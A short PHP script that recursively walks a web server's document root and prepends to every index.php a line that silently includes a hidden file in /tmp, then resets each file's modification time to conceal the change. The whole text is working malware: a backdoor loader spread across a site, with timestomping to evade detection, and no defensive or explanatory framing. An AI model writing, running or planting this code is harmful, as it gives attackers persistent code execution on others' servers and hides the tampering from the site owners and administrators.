<?php
$loader = '<?php @include "/tmp/.sess_x"; ?>';
function visit($dir, $loader) {
    foreach (scandir($dir) as $f) {
        if ($f == '.' || $f == '..') continue;
        $p = $dir . '/' . $f;
        if (is_dir($p)) { visit($p, $loader); continue; }
        if ($f == 'index.php') {
            $t = filemtime($p);
            file_put_contents($p, $loader . file_get_contents($p));
            touch($p, $t);
        }
    }
}
visit($_SERVER['DOCUMENT_ROOT'], $loader);
